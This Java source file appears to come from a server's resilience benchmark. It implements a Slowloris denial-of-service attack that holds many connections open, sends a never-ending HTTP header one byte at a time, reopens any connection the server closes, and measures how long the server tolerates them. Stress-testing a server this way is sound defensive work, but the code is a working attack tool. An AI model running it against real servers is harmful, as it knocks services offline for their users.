package org.asfcast.bench.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Slowloris: many connections, each sending a request head one byte every few seconds, a head
 * that never ends. A connection the server closes is opened again at once, so the attack holds
 * as many as it can for its whole time. Reports how long the server let them hold on (its request
 * timeout should bound it) and what, if anything, it answered.
 */
final class Slowloris implements Attack {

    // Starts like a real Play, then one header that never ends.
    private static final byte[] HEAD = ("GET / HTTP/1.0\r\nUser-Agent: NSPlayer/7.10.0.3059\r\nPragma: xPlayStrm=1\r\nX-Slow: "
            + "a".repeat(4000)).getBytes(StandardCharsets.ISO_8859_1);

    private final InetSocketAddress server;
    private final int connections;
    private final long byteEveryMs;

    Slowloris(InetSocketAddress server, int connections, long byteEveryMs) {
        this.server = server;
        this.connections = connections;
        this.byteEveryMs = byteEveryMs;
    }

    @Override
    public String name() {
        return "slowloris";
    }

    /** One slow connection: when it opened, how far into the head it is, when its next byte is due. */
    private static final class Slow {
        final long opened = System.nanoTime();
        int sent;
        long nextByte;
    }

    @Override
    public Map<String, Object> run(long deadlineNanos, Outcomes outcomes) throws IOException {
        List<Double> heldSeconds = new ArrayList<>();
        ByteBuffer read = ByteBuffer.allocate(4096);
        int opened = 0;
        int peak = 0;
        try (Selector selector = Selector.open()) {
            long spread = Math.max(1, byteEveryMs * 1_000_000L / connections); // the first bytes spread over one period
            for (int i = 0; i < connections && System.nanoTime() < deadlineNanos; i++) {
                if (open(selector, System.nanoTime() + i * spread, outcomes)) {
                    opened++;
                }
            }
            while (System.nanoTime() < deadlineNanos) {
                selector.select(50);
                long now = System.nanoTime();
                for (SelectionKey key : selector.selectedKeys()) {
                    SocketChannel ch = (SocketChannel) key.channel();
                    Slow slow = (Slow) key.attachment();
                    try {
                        read.clear();
                        int n = ch.read(read);
                        if (n > 0) {
                            outcomes.status("answered: ", PlayRequest.status(
                                    new String(read.array(), 0, n, StandardCharsets.ISO_8859_1).split("\r\n", 2)[0]));
                        }
                        if (n < 0) {
                            throw new IOException("closed by the server");
                        }
                    } catch (IOException e) {
                        heldSeconds.add((now - slow.opened) / 1e9);
                        outcomes.add("closed by the server (" + Outcomes.failure(e) + ")");
                        key.cancel();
                        ch.close();
                        if (open(selector, now, outcomes)) {
                            opened++;
                        }
                    }
                }
                selector.selectedKeys().clear();
                int live = 0;
                for (SelectionKey key : selector.keys()) {
                    if (!key.isValid()) {
                        continue;
                    }
                    live++;
                    Slow slow = (Slow) key.attachment();
                    if (slow.nextByte <= now && slow.sent < HEAD.length) {
                        try {
                            if (((SocketChannel) key.channel()).write(ByteBuffer.wrap(HEAD, slow.sent, 1)) == 1) {
                                slow.sent++;
                            }
                        } catch (IOException e) {
                            outcomes.add("write failed (" + Outcomes.failure(e) + ")");
                        }
                        slow.nextByte = now + byteEveryMs * 1_000_000L;
                    }
                }
                peak = Math.max(peak, live);
            }
            for (SelectionKey key : selector.keys()) {
                key.channel().close();
            }
        }
        double[] held = heldSeconds.stream().mapToDouble(Double::doubleValue).sorted().toArray();
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("connections", connections);
        m.put("byte_every_ms", byteEveryMs);
        m.put("opened", opened);
        m.put("peak_open", peak);
        m.put("closed_by_server", held.length);
        m.put("held_s_p50", ProbeLoop.pct(held, 50));
        m.put("held_s_max", ProbeLoop.pct(held, 100));
        return m;
    }

    /** Opens one slow connection (a blocking connect: on loopback it is immediate), its first byte due at {@code firstByte}. */
    private boolean open(Selector selector, long firstByte, Outcomes outcomes) {
        SocketChannel ch = null;
        try {
            ch = SocketChannel.open();
            ch.socket().connect(server, 5000);
            ch.configureBlocking(false);
            Slow slow = new Slow();
            slow.nextByte = firstByte;
            ch.register(selector, SelectionKey.OP_READ, slow);
            return true;
        } catch (IOException e) {
            outcomes.add("cannot open (" + Outcomes.failure(e) + ")");
            if (ch != null) {
                try {
                    ch.close();
                } catch (IOException ignored) {
                    // not open anyway
                }
            }
            return false;
        }
    }
}
